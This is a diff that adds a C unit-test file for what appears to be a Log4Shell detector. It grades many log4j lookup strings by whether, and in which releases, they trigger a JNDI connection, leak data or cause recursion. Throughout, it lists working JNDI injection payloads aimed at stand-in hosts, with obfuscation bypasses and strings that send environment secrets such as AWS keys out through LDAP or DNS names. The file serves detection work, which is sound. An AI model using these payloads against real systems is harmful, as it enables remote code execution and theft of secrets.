@@ -1,0 +1,261 @@
+/* What a lookup, written as it is, would do: every family payloads were published in, and what only looks like one.
+ * Expectations follow the semantics of log4j-core, release by release; which lookup appeared when decides "fires". */
+#include "judge_row.h"
+
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stdint.h>
+#include <cmocka.h>
+
+#define RUN(rows) judge_rows(rows, sizeof rows / sizeof *rows)
+#define H "ldap://h.example:389/a"
+
+static void names_that_connect(void **state)
+{
+    static const struct judge_row rows[] = {
+        ROW("${jndi:ldap://h.example/a}", "exploit", .indicators = H, .fires = FIRES_ALL, .normal = "${jndi:ldap://h.example/a}", .calls = 1),
+        ROW("${jndi:ldap://h.example:1389/Basic/Command/Base64/aWQK}", "exploit",
+            .indicators = "ldap://h.example:1389/Basic/Command/Base64/aWQK", .fires = FIRES_ALL),
+        ROW("${jndi:ldaps://h.example/a}", "exploit", .indicators = "ldaps://h.example:636/a", .fires = FIRES_ALL),
+        ROW("${jndi:rmi://h.example/a}", "exploit", .indicators = "rmi://h.example:1099/a", .fires = FIRES_ALL),
+        ROW("${jndi:dns://h.example/a}", "exploit", .indicators = "dns://h.example:53/a", .fires = FIRES_ALL),
+        ROW("${jndi:iiop://h.example/a}", "exploit", .indicators = "iiop://h.example:900/a", .fires = FIRES_ALL),
+        ROW("${jndi:ldap://h.example}", "exploit", .indicators = "ldap://h.example:389"),
+        ROW("${jndi:ldap://h.example:1389}", "exploit", .indicators = "ldap://h.example:1389"),
+        ROW("${jndi:ldap://192.0.2.7:1389/a}", "exploit", .indicators = "ldap://192.0.2.7:1389/a", .fires = FIRES_ALL),
+        ROW("${jndi:ldap://[2001:db8::7]:1389/a}", "exploit", .indicators = "ldap://2001:db8::7:1389/a", .fires = FIRES_ALL),
+        ROW("${jndi:ldap://3221225991:1389/a}", "exploit", .indicators = "ldap://3221225991:1389/a"),
+        ROW("${jndi:ldap://h.example/a b}", "exploit", .indicators = "ldap://h.example:389/a b"),
+        ROW("${jndi:ldap://127.0.0.1/a}", "exploit", .indicators = "ldap://127.0.0.1:389/a", .fires = FIRES_ALL FIRES_LOCAL),
+        ROW("${jndi:ldap:/h.example/a}", "exploit", .normal = "${jndi:ldap:/h.example/a}"),
+        ROW("${jndi:ldap:///a}", "exploit"),
+        ROW("${jndi:rmi:/h.example}", "exploit", .normal = "${jndi:rmi:/h.example}"), /* to the local registry */
+        ROW("}${jndi:ldap://h.example/a}", "exploit", .fires = FIRES_ALL),
+        ROW("{${jndi:ldap://h.example/a}}", "exploit", .fires = FIRES_ALL),
+        ROW("a $ { } ${jndi:ldap://h.example/a}}}}", "exploit", .indicators = H, .fires = FIRES_ALL),
+        ROW("${jndi:ldap://h.example/a} ${", "exploit", .indicators = H, .fires = FIRES_ALL, .calls = 2),
+        ROW("${jndi:ldap://a.example/1}${jndi:rmi://b.example/2}", "exploit",
+            .indicators = "ldap://a.example:389/1 rmi://b.example:1099/2", .fires = FIRES_ALL, .calls = 4),
+        ROW("${jndi:LDAP://a.example/1}${jndi:ldap://b.example/2}", "exploit", .normal = "${jndi:ldap://b.example/2}", .fires = FIRES_ALL),
+    };
+    (void)state;
+    RUN(rows);
+}
+
+static void hidden_characters(void **state)
+{
+    static const struct judge_row rows[] = {
+        ROW("${JNDI:ldap://h.example/a}", "exploit", .indicators = H, .fires = FIRES_2_8),
+        ROW("${jNdI:ldap://h.example/a}", "exploit", .indicators = H, .fires = FIRES_2_8),
+        ROW("${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://h.example/a}", "exploit", .indicators = H,
+            .fires = FIRES_2_8, .normal = "${jndi:ldap://h.example/a}", .calls = 9),
+        ROW("${${::-j}ndi:rmi://h.example/a}", "exploit", .indicators = "rmi://h.example:1099/a", .fires = FIRES_2_8),
+        ROW("${j${::-n}di:ldap://h.example/a}", "exploit", .fires = FIRES_2_8),
+        ROW("${jndi${::-:}ldap://h.example/a}", "exploit", .fires = FIRES_2_8),
+        ROW("${${:-j}ndi:ldap://h.example/a}", "exploit", .fires = FIRES_2_8),
+        ROW("${${:::::-j}ndi:ldap://h.example/a}", "exploit", .fires = FIRES_2_8),
+        ROW("${${-:-j}ndi:ldap://h.example/a}", "exploit", .fires = FIRES_2_8),
+        ROW("${${\":-j}ndi:ldap://h.example/a}", "exploit", .fires = FIRES_2_8),
+        ROW("${${::::::-${::-j}}ndi:ldap://h.example/a}", "exploit", .fires = FIRES_2_8),
+        /* before 2.8 the name ends at the first brace, and without "//" it is the local host that is asked */
+        ROW("${jndi:ldap:${::-/}/h.example/a}", "exploit", .fires = FIRES_ALL, .normal = "${jndi:ldap://h.example/a}"),
+        ROW("${jndi:${lower:l}${lower:d}a${lower:p}://h.example/a}", "exploit", .indicators = H, .fires = FIRES_2_13),
+        ROW("${${lower:j}ndi:ldap://h.example/a}", "exploit", .indicators = H, .fires = FIRES_2_13),
+        ROW("${${lower:jndi}:${lower:rmi}://h.example/a}", "exploit", .indicators = "rmi://h.example:1099/a", .fires = FIRES_2_13),
+        ROW("${${lower:J}${upper:n}${lower:${upper:d}}i:ldap://h.example/a}", "exploit", .fires = FIRES_2_13),
+        ROW("${${upper:j}${upper:n}${upper:d}${upper:i}:ldap://h.example/a}", "exploit", .fires = FIRES_2_13),
+        ROW("${${lower:${lower:jndi}}:ldap://h.example/a}", "exploit", .fires = FIRES_2_13),
+        ROW("${${lower:j}${upper:n}${lower:d}${upper:i}:${lower:l}${lower:d}${lower:a}${lower:p}://h.example/a}", "exploit",
+            .indicators = H, .fires = FIRES_2_13),
+        ROW("${jnd${upper:\xc4\xb1}:ldap://h.example/a}", "exploit", .indicators = H, .fires = FIRES_2_13),
+        ROW("${${env:NaN:-j}ndi${env:NaN:-:}ldap://h.example/a}", "exploit", .indicators = H, .fires = FIRES_2_8),
+        ROW("${${env:BARFOO:-j}nd${env:BARFOO:-i}${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//h.example/a}", "exploit",
+            .indicators = H, .fires = FIRES_2_8),
+        ROW("${${sys:NaN:-j}ndi:${ctx:NaN:-l}dap://h.example/a}", "exploit", .traits = "dos", .fires = FIRES_2_8),
+        ROW("${${what:ever:-j}${some:thing:-n}${other:thing:-d}${and:last:-i}:ldap://h.example/a}", "exploit", .fires = FIRES_2_8),
+        ROW("${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://h.example/a}", "exploit", .indicators = H, .fires = FIRES_2_8),
+        ROW("${${date:'jndi:ldap:'}//h.example/a}", "exploit", .indicators = H, .fires = FIRES_2_8),
+        ROW("${${k8s:k5:-J}${k8s:k6:-ND}i${sd:k5:-:}ldap://h.example/a}", "exploit", .indicators = H, .fires = FIRES_2_8),
+        ROW("${${base64:ag==:-j}ndi:ldap://h.example/a}", "exploit", .fires = FIRES_2_8),
+        ROW("${jndi:\\-ldap://h.example/a:-z}", "exploit", .fires = FIRES("2.13.1-2.14.1"), .normal = "${jndi:ldap://h.example/a}"),
+        ROW("${foo:-$${jndi:ldap://h.example/a}}", "exploit", .fires = FIRES_2_8),
+        ROW("${lower:$${jndi:ldap://h.example/a}}", "exploit", .fires = FIRES_2_13),
+        ROW("${foo:${jndi:ldap://h.example/a}}", "exploit", .fires = FIRES_2_8),
+        ROW("${a:-${b:-${c:-${jndi:ldap://h.example/a}}}}", "exploit", .fires = FIRES_2_8),
+        ROW("${jndi:a:-${jndi:ldap://h.example/b}}", "exploit", .indicators = "ldap://h.example:389/b", .fires = FIRES_2_8),
+        ROW("${::-${::-$${::-${jndi:ldap://h.example/a}}}}", "exploit", .traits = "dos", .fires = FIRES_2_8), /* the same name in itself: throws */
+    };
+    (void)state;
+    RUN(rows);
+}
+
+/* No release is a superset of another. */
+static void only_some_releases(void **state)
+{
+    static const struct judge_row rows[] = {
+        /* names are not expanded: the first brace closes */
+        ROW("${jndi:ldap://h.example/${x}", "exploit", .fires = FIRES("2.0-beta9-2.7")),
+        ROW("${jndi:ldap://h.example/${lower:a}", "exploit", .fires = FIRES("2.0-beta9-2.7")),
+        /* the escape is gone after the first pass, and a second one comes */
+        ROW("$${jndi:ldap://h.example/a} ${", "exploit", .indicators = H, .fires = "2.6-2.14.1 message"),
+        ROW("$${jndi:ldap://h.example/a} ${x}", "exploit", .fires = "2.6-2.14.1 message"),
+        ROW("${x} $${jndi:ldap://h.example/a}", "exploit", .fires = "2.6-2.14.1 message"),
+        ROW("${::-$}{jndi:ldap://h.example/a} ${", "exploit", .fires = "2.6-2.14.1 message"),
+        /* java: throws where it is known, event:Message too */
+        ROW("${java:nosuch}${jndi:ldap://h.example/a}", "exploit", .fires = FIRES("2.0-beta9-2.0.2")),
+        ROW("${jndi:ldap://h.example/a}${java:nosuch}", "exploit", .fires = FIRES_ALL, .indicators = H),
+        ROW("${jndi:ldap://h.example/a}${a:-${a}}", "exploit", .traits = "dos", .fires = FIRES_ALL),
+        /* the allow-list of 2.15.0 and the escape that this release does not see */
+        ROW("$${jndi:ldap://127.0.0.1/a}", "exploit", .fires = "2.15.0 message +lookups"),
+        ROW("${jndi:ldap://localhost:1389/a}", "exploit", .fires = FIRES_ALL FIRES_LOCAL),
+    };
+    (void)state;
+    RUN(rows);
+}
+
+static void conditional_and_leaking(void **state)
+{
+    static const struct judge_row rows[] = {
+        ROW("${jndi:ldap://${env:USER}.evil.example/a}", "exploit", .certainty = "conditional", .traits = "leak conditional",
+            .conditions = "env:USER", .fires = FIRES_2_8),
+        ROW("${jndi:ldap://${ctx:tenant}.evil.example/a}", "exploit", .certainty = "conditional", .traits = "leak dos conditional",
+            .conditions = "ctx:tenant", .fires = FIRES_2_8),
+        ROW("${jndi:ldap://${sys:app.name}:${env:PORT:-1389}/a}", "exploit", .certainty = "conditional", .traits = "leak conditional",
+            .conditions = "sys:app.name"),
+        ROW("${jndi:dns://${env:A}.${env:B}.evil.example/}", "exploit", .certainty = "conditional", .traits = "leak conditional",
+            .conditions = "env:A env:B"),
+        ROW("${jndi:${env:PROTO}://h.example/a}", "reach"),
+        /* not set, the text stays in the path: it connects all the same */
+        ROW("${jndi:ldap://h.example/${env:AWS_SECRET_ACCESS_KEY}}", "exploit", .traits = "leak", .fires = FIRES_ALL,
+            .normal = "${jndi:ldap://h.example/${env:AWS_SECRET_ACCESS_KEY}}"),
+        ROW("${jndi:ldap://${hostName}.evil.example/a}", "exploit", .traits = "leak", .fires = FIRES_2_8),
+        ROW("${jndi:ldap://${sys:java.version}.evil.example/a}", "exploit", .traits = "leak", .fires = FIRES_2_8),
+        ROW("${jndi:ldap://h.example/${java:os}}", "exploit", .traits = "leak"),
+        ROW("${jndi:dns://h.example/${env:A:-none}}", "exploit", .traits = "leak"),
+        ROW("${jndi:ldap://${date:yyyy}.evil.example/a}", "exploit", .fires = FIRES_2_8),
+        ROW("${env:AWS_SECRET_ACCESS_KEY}", "leak", .normal = "${env:AWS_SECRET_ACCESS_KEY}"),
+        ROW("${sys:user.name}", "leak"),
+        ROW("${sys:log4j.configurationFile}", "leak"),
+        ROW("${java:version}", "leak"),
+        ROW("${hostName}", "leak"),
+        ROW("${foo:hostName}", "leak"),
+        ROW("${main:0}", "leak"),
+        ROW("${log4j:configLocation}", "leak"),
+        ROW("${bundle:application:spring.datasource.password}", "leak"),
+        ROW("${spring:spring.datasource.password}", "leak"),
+        ROW("${docker:containerId}", "leak"),
+        ROW("${k8s:masterUrl}", "leak"),
+        ROW("${ctx:apiKey}", "leak"),
+        ROW("${lower:${env:HOME}}", "leak"),
+        ROW("${${::-e}nv:HOME}", "leak"),
+        ROW("${env:A:-${env:B}}", "leak"),
+    };
+    (void)state;
+    RUN(rows);
+}
+
+static void recursion(void **state)
+{
+    static const struct judge_row rows[] = {
+        ROW("${${ctx:u}}", "dos", .traits = "dos"),
+        ROW("${::-${ctx:u}}", "dos", .traits = "dos"),
+        ROW("${lower:${ctx:u}}", "dos", .traits = "dos"),
+        ROW("${${::-${::-$${::-j}}}}", "dos", .traits = "dos"),
+        ROW("${::-$${::-$${::-j}}}", "dos", .traits = "dos"),
+        ROW("${a:-${a}}", "dos", .traits = "dos"),
+        ROW("${a:-x${b:-$${a}}}", "dos", .traits = "dos"),
+        ROW("${event:Message}", "dos", .traits = "dos"),
+        ROW("${a:-${a}}${jndi:ldap://h.example/a}", "exploit", .traits = "dos"),
+    };
+    (void)state;
+    RUN(rows);
+}
+
+static void reaches_without_connecting(void **state)
+{
+    static const struct judge_row rows[] = {
+        ROW("${jndi:x}", "reach", .indicators = "", .fires = FIRES_ALL FIRES_LOCAL, .normal = "${jndi:x}"),
+        ROW("${jndi:}", "reach", .indicators = "", .fires = FIRES_ALL FIRES_LOCAL),
+        ROW("${jndi:java:comp/env/jdbc/x}", "reach"),
+        ROW("${jndi:LDAP://h.example/a}", "reach", .indicators = "!LDAP://h.example:0/a", .fires = FIRES_ALL),
+        ROW("${jndi:lDap://h.example/a}", "reach"),
+        ROW("${jndi:${upper:ldap}://h.example/a}", "reach", .fires = FIRES_ALL),
+        ROW("${${upper:jndi:ldap}://h.example/a}", "reach", .fires = FIRES_2_13),
+        ROW("${jndi:http://h.example/a}", "reach"),
+        ROW("${jndi:https://h.example/a}", "reach"),
+        ROW("${jndi:file:///etc/passwd}", "reach"),
+        ROW("${jndi:nis://h.example/a}", "reach"),
+        ROW("${jndi:nds://h.example/a}", "reach"),
+        ROW("${jndi:rmi://h.example}", "reach"),
+        ROW("${jndi: ldap://h.example/a}", "reach"),
+        ROW("${jndi:\tldap://h.example/a}", "reach"),
+        ROW("${jndi:-ldap://h.example/a}", "reach"),
+        ROW("${jndi:\\-ldap://h.example/a}", "reach"),
+        ROW("${jndi:\\ldap://h.example/a}", "reach"),
+        ROW("${jndi:$${lower:l}dap://h.example/a}", "reach"),
+    };
+    (void)state;
+    RUN(rows);
+}
+
+/* Published "bypasses" that fire nowhere, and plain mistakes. */
+static void dead_tries(void **state)
+{
+    static const struct judge_row rows[] = {
+        ROW("${jndi:ldap://h.example/a", "attempt", .normal = "${jndi:ldap://h.example/a"),
+        ROW("$${jndi:ldap://h.example/a}", "attempt"),
+        ROW("$$${jndi:ldap://h.example/a}", "attempt"),
+        ROW("${ jndi:ldap://h.example/a}", "attempt"),
+        ROW("${jndi :ldap://h.example/a}", "attempt"),
+        ROW("${\tjndi:ldap://h.example/a}", "attempt"),
+        ROW("${ ${jndi:ldap://h.example/a}", "attempt"),
+        ROW("${${jndi:ldap://h.example/a}", "attempt"),
+        ROW("${lower:${jndi:ldap://h.example/a}", "attempt"),
+        ROW("${::-$}{jndi:ldap://h.example/a}", "attempt"),
+        ROW("${::-${::-$}{jndi:ldap://h.example/a}}", "attempt"),
+        ROW("${base64:JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX0=}", "attempt"),
+        ROW("${${base64:am5kaTpsZGFwOi8vaC5leGFtcGxlL2E=}}", "attempt"),
+        ROW("${${lower:jnd}${lower:\xc4\xb0}:ldap://h.example/a}", "attempt"), /* fires under a Turkish locale alone */
+        ROW("${jnd\xc4\xb1:ldap://h.example/a}", "attempt"),
+        ROW("${jnd\xc4\xb0:ldap://h.example/a}", "attempt"),
+        ROW("${jnd${lower:\xc4\xb1}:ldap://h.example/a}", "attempt"),
+        ROW("${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://h.example/a", "attempt"),
+    };
+    (void)state;
+    RUN(rows);
+}
+
+static void ordinary_text(void **state)
+{
+    static const char *const texts[] = {
+        "", "$", "${", "${}", "$}", "{}", "a${", "price $5 {each}", "$ {jndi:ldap://h.example/a}", "$(jndi:ldap://h.example/a)",
+        "{jndi:ldap://h.example/a}", "jndi:ldap://h.example/a", "$jndi:ldap://h.example/a", "ldap://h.example/a",
+        "${user.name}", "${project.version}", "${server.port:8080}", "${server.port:-8080}", "${spring.datasource.url}",
+        "${HOME}", "${PATH:-/usr/bin}", "${1:-default}", "${VAR##*/}", "${VAR%.tar.gz}", "${#array[@]}", "${!name}",
+        "Hello ${name}, you have ${count} items", "`${items.map(i => i.name).join(',')}`", "${a ? b : c}", "${user:name}",
+        "<c:out value=\"${param.id}\"/>", "#{bean.value} ${bean.value}", "${env.BRANCH_NAME}", "${self:service}-${opt:stage}",
+        "${var.region}", "${data.aws_ami.id}", "${CMAKE_SOURCE_DIR}/src", "${date:yyyy-MM-dd}", "${lower:ABC}", "${upper:abc}",
+        "${event:Level}", "${marker:}", "${contextName}", "${jndi}", "${jndi/x}", "${ldap://h.example/a}", "${::-j}",
+        "100% of $%7B", "$%7B", "%24", "%7B%7D", "%24%7B", "a%20b%2Fc", "\\u0024", "\\x24", "\\n\\t\\\"", "&dollar;", "&lbrace;",
+        "&amp;&lt;&#36;", "/?a=1&b=2&c=3", "/?q=caf%C3%A9&x=%E2%82%AC", "C:\\Users\\x\\u\\a", "50% off & free", "R&D \\ $100",
+        "dGhpcyBpcyBhIHBsYWluIHNlbnRlbmNl", "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0In0.c2lnbmF0dXJlLWJ5dGVz",
+        "/static/js/app.0123456789abcdef0123456789abcdef.js", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36",
+        "session=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", "${${}}", "${${x}}", "${x:${y}}", "}}}}${{{{", "${{ github.ref }}",
+        "${=NA()}", "${7*7}", "${T(java.lang.Runtime)}",
+    };
+    struct judge_row rows[sizeof texts / sizeof *texts];
+    (void)state;
+    for (size_t i = 0; i < sizeof texts / sizeof *texts; i++)
+        rows[i] = (struct judge_row){.line = (int)i, .text = texts[i], .grade = "none"};
+    RUN(rows);
+}
+
+int main(void)
+{
+    const struct CMUnitTest tests[] = {
+        cmocka_unit_test(names_that_connect),      cmocka_unit_test(hidden_characters), cmocka_unit_test(only_some_releases),
+        cmocka_unit_test(conditional_and_leaking), cmocka_unit_test(recursion),         cmocka_unit_test(reaches_without_connecting),
+        cmocka_unit_test(dead_tries),              cmocka_unit_test(ordinary_text),
+    };
+    return cmocka_run_group_tests(tests, NULL, NULL);
+}
